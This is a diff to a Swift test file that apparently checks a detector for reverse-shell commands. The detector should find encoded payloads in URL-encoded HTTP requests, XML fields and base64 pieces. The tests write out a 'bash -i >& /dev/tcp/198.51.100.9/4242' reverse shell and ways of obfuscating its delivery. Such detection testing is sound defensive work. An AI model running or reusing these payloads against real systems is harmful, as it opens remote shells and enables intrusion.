@@ -44,6 +44,20 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.port == 4242)
   }
 
+  /// Base64's plus signs in a request whose blanks are written otherwise, and a command in XML.
+  @Test func readsRequests() {
+    let digits = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
+    #expect(digits.contains("+"))
+    for text in [
+      "GET /?c=echo%20\(digits)%7Cbase64%20-d%7Cbash HTTP/1.1",
+      "exec=bash%20-c%20%7Becho%2C\(digits)%7D%7C%7Bbase64%2C-d%7D%7C%7Bbash%2C-i%7D",
+      "<?xml version=\"1.0\"?><a><b>x</b><string>bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1</string></a>",
+    ] {
+      #expect(shells(text).first?.host == "198.51.100.9")
+      #expect(shells(text).first?.port == 4242)
+    }
+  }
+
   /// In lines of any length, in quotes side by side, by one `echo` after the other.
   @Test func readsBase64InPieces() {
     let digits = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
